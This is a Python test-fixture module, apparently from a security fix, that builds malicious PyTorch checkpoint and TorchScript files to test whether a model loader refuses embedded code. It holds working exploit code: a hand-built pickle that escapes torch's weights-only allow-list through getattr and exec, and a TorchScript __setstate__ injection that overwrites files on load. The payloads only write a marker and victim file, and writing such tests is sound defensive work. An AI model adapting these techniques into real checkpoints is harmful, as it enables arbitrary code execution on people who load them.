"""Crafted files that run code when a loader is too trusting (issue 11, findings 1 and 2).

Every payload does two things a loader must never let happen: it creates a marker file and
overwrites the first bytes of an existing "victim" file. Tests assert that neither happened
(and, in a control, that the payload does both when loaded the trusting way).
"""

from __future__ import annotations

import contextlib
import io
import pickle
import tempfile
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import torch
import torch.serialization

VICTIM_BYTES = b"precious bytes that must survive\n"


@dataclass(frozen=True)
class Target:
    """What a payload attacks: `marker` (created) and `victim` (overwritten)."""

    marker: Path
    victim: Path

    @classmethod
    def in_folder(cls, folder: Path) -> Target:
        victim = folder / "victim.txt"
        victim.write_bytes(VICTIM_BYTES)
        return cls(folder / "pwned", victim)

    def python_code(self) -> str:
        return (
            f"open({str(self.marker)!r}, 'w').write('code ran');handle = open({str(self.victim)!r}, 'r+b'); handle.write(b'XXXXXXXX'); handle.close()"
        )

    def untouched(self) -> bool:
        return not self.marker.exists() and self.victim.read_bytes() == VICTIM_BYTES

    def hit(self) -> bool:
        return self.marker.exists() and self.victim.read_bytes() != VICTIM_BYTES


def _unicode(text: str) -> bytes:
    data = text.encode()
    return pickle.BINUNICODE + len(data).to_bytes(4, "little") + data


def _global(module: str, name: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def getattr_exec_pickle(code: str) -> bytes:
    """A pickle that needs only `builtins.getattr` (plus torch's default allow-list) to run `code`.

    getattr(torch.serialization._get_layout, "__globals__") is torch.serialization's module dict;
    SETITEM replaces its `_maybe_decode_ascii` by exec (reached as getattr(getattr(getattr,
    "__self__"), "exec"), the builtins module's); the persistent id `(code,)` then makes the
    unpickler call `_maybe_decode_ascii(code)`, i.e. exec(code), before it refuses the id.
    """
    getattr_ = _global("builtins", "getattr")
    payload = pickle.PROTO + b"\x02"
    payload += getattr_ + _global("torch.serialization", "_get_layout") + _unicode("__globals__")
    payload += pickle.TUPLE2 + pickle.REDUCE
    payload += _unicode("_maybe_decode_ascii")
    payload += getattr_ + getattr_ + getattr_ + _unicode("__self__") + pickle.TUPLE2 + pickle.REDUCE
    payload += _unicode("exec") + pickle.TUPLE2 + pickle.REDUCE
    payload += pickle.SETITEM  # the dict stays on the stack (the unpickler has no POP)
    payload += _unicode(code) + pickle.TUPLE1 + pickle.BINPERSID + pickle.STOP
    return payload


def torch_archive(path: Path, data_pkl: bytes) -> Path:
    """A torch.save zip archive whose `data.pkl` is `data_pkl` (other records as torch writes them)."""
    buffer = io.BytesIO()
    torch.save({"state_dict": {"weight": torch.zeros(1)}}, buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for info in source.infolist():
            data = data_pkl if info.filename.endswith("/data.pkl") else source.read(info.filename)
            archive.writestr(info.filename, data)
    return path


def getattr_checkpoint(path: Path, target: Target) -> Path:
    """An mmengine-style `.pth` file carrying the getattr -> __globals__ -> exec payload."""
    return torch_archive(path, getattr_exec_pickle(target.python_code()))


@contextlib.contextmanager
def torch_serialization_guard() -> Iterator[dict[str, bool]]:
    """Restore torch.serialization's helper the payload replaces; report whether it was replaced."""
    original = torch.serialization._maybe_decode_ascii
    report = {"replaced": False}
    try:
        yield report
    finally:
        report["replaced"] = torch.serialization._maybe_decode_ascii is not original
        torch.serialization._maybe_decode_ascii = original


class StatefulModule(torch.nn.Module):
    """A module with TorchScript `__getstate__`/`__setstate__`: `torch.jit.load` calls the latter."""

    def __init__(self) -> None:
        super().__init__()
        self.proj = torch.nn.Parameter(torch.zeros(2, 2))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x @ self.proj

    @torch.jit.export
    def __getstate__(self) -> tuple[torch.Tensor, bool]:
        return (self.proj, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, bool]) -> None:
        self.proj = state[0]
        self.training = state[1]


def setstate_torchscript_archive(path: Path, target: Target) -> Path:
    """A TorchScript archive whose `__setstate__` overwrites `target.victim` and creates `target.marker`.

    TorchScript cannot call Python, but `torch.from_file(name, shared=True, size=n)` maps a file
    (creating it if needed) and `fill_` writes through the mapping. The statements are written
    into the archive's `code/` as an attacker would (the compiler would drop unused results).
    """
    scripted = torch.jit.script(StatefulModule())
    attack = (
        f'    victim = torch.from_file("{target.victim}", True, 8, dtype=0)\n'
        f'    marker = torch.from_file("{target.marker}", True, 8, dtype=0)\n'
        "    print(torch.fill_(victim, 88), torch.fill_(marker, 1))\n"
    )
    with tempfile.TemporaryDirectory() as folder:
        clean = Path(folder) / path.name  # same name: the archive's records live under its stem
        scripted.save(str(clean))
        with zipfile.ZipFile(clean) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
            for info in source.infolist():
                if info.filename.endswith(".debug_pkl"):
                    continue  # source ranges of the original code
                data = source.read(info.filename)
                if "/code/" in info.filename and b"def __setstate__" in data:
                    code = data.decode()
                    start = code.index("  def __setstate__")
                    body = code.index(") -> NoneType:\n", start) + len(") -> NoneType:\n")
                    data = (code[:body] + attack + code[body:]).encode()
                archive.writestr(info.filename, data)
    return path


def getattr_torchscript_archive(path: Path, target: Target) -> Path:
    """A TorchScript-looking archive (it has `constants.pkl`) whose `data.pkl` is the getattr payload."""
    torch_archive(path, getattr_exec_pickle(target.python_code()))
    with zipfile.ZipFile(path, "a") as archive:
        prefix = archive.namelist()[0].split("/")[0]
        archive.writestr(f"{prefix}/constants.pkl", pickle.dumps(()))
    return path
